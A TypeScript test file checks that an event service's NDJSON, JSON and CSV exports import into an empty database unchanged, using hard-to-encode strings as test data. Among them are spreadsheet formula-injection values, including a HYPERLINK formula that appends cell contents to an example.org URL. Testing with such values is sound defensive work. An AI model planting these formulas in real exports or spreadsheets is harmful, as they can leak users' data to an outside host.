import { countEvents, createEvent, EVENT, startEmptyApp, type EventBody } from '../support/events';
import type { TestApp } from '../support/test-app';
import { download, MEDIA_TYPES, upload, type Format } from '../support/transfer';

const FORMATS = ['ndjson', 'json', 'csv'] as const;

/** Texts that a format could spoil, as messages. */
const NASTY_TEXTS = [
  'plain',
  ' spaces around ',
  'a,b;c\td',
  '"',
  '""',
  'say "hi", twice',
  'line\nbreak',
  'line\r\nbreak',
  'lone\rreturn',
  '\n',
  '\r',
  ',',
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\ttab first',
  '\rreturn first',
  "'quoted",
  "''twice",
  "'=1+1",
  "'",
  'ümläut 漢字 \u{1F600} \u{10FFFF} \uFEFF \u2028 \u0001 \u007f',
  '\uFEFFbyte order mark first',
  '\\ \\n \\u0041 {} [] null',
  '# no comment',
  'x'.repeat(65_536),
  '\u{1F600}'.repeat(65_536),
  '"'.repeat(65_536),
];

const NASTY_DETAILS: Record<string, unknown>[] = [
  {},
  { '': null, a: [], b: {}, c: [[], {}] },
  { n: [0, -0.5, 1e-7, 1.5e-300, Number.MAX_SAFE_INTEGER, -1] },
  { 'key "with", all\r\n': 'value "with",\n=all', '=1+1': '@x' },
  { deep: Array.from({ length: 30 }).reduce<unknown>((inner) => ({ inner }), true) },
  { long: '"\\\n'.repeat(40_000) },
];

/** The events of an application, oldest first, without what an import gives anew. */
async function contentOf(api: TestApp): Promise<Omit<EventBody, 'id' | 'created_at' | 'updated_at'>[]> {
  const { text } = await download(api);
  return text
    .split('\n')
    .slice(0, -1)
    .map((line) => {
      const { id, created_at, updated_at, ...content } = JSON.parse(line) as EventBody;
      expect([typeof id, typeof created_at, typeof updated_at]).toEqual(['number', 'string', 'string']);
      return content;
    });
}

/** An export with ids and server times blanked out, everything else byte for byte. */
function withoutOwn(text: string, format: Format): string {
  if (format === 'csv') return text.replace(/^\d+,/gm, '0,').replace(/(Z),\S{24},\S{24}(?=\r\n)/g, '$1,,');
  return text.replace(/^\{"id":\d+/gm, '{"id":0').replace(/"created_at":"\S{24}","updated_at":"\S{24}"/g, '');
}

describe('an export that is imported into an empty database', () => {
  let from: TestApp;
  let to: TestApp;

  beforeAll(async () => {
    [from, to] = await Promise.all([startEmptyApp(), startEmptyApp()]);
    const start = Date.parse('2026-01-31T09:30:00.123Z');
    const time = (place: number): string => new Date(start - (place % 7) * 1000).toISOString();
    for (const [place, message] of NASTY_TEXTS.entries()) {
      await createEvent(from, { message, timestamp: time(place) });
    }
    // Names have something to see, and no control characters but tabs and line breaks.
    for (const text of NASTY_TEXTS.filter((text) => text.length <= 100 && text.trim() !== '')) {
      const name = text.replace('\u0001 \u007f', '\u2028');
      await createEvent(from, { event_type: name, source: name, timestamp: '1970-01-01T00:00:00.000Z' });
    }
    for (const [place, details] of NASTY_DETAILS.entries()) {
      await createEvent(from, { details, timestamp: time(place) });
    }
    await createEvent(from, { source: '', severity: 'critical' });
    await createEvent(from, { source: null, details: null, severity: 'warning' });
  });

  beforeEach(() => to.sql('TRUNCATE system_events'));

  afterAll(() => Promise.all([from.close(), to.close()]));

  it.each(FORMATS)('is the same but for what the service assigns: %s', async (format) => {
    const file = await download(from, `?format=${format}`);
    expect([file.status, file.headers.get('content-type')]).toEqual([
      200,
      expect.stringContaining(MEDIA_TYPES[format]),
    ]);
    const result = await upload(to, format, file.text);
    expect([result.status, result.body]).toEqual([200, { imported: await countEvents(from), rejected: 0, errors: [] }]);
    expect(await contentOf(to)).toEqual(await contentOf(from));
    const again = await download(to, `?format=${format}`);
    expect(withoutOwn(again.text, format)).toBe(withoutOwn(file.text, format));
    expect(withoutOwn(again.text, format)).not.toBe(again.text);
  });

  it('keeps the order of events of one time', async () => {
    const lines = ['b', 'a', 'c'].map((source) =>
      JSON.stringify({ ...EVENT, source, timestamp: '2026-01-31T00:00:00Z' }),
    );
    await upload(to, 'ndjson', lines.join('\n'));
    expect((await contentOf(to)).map(({ source }) => source)).toEqual(['b', 'a', 'c']);
  });
});
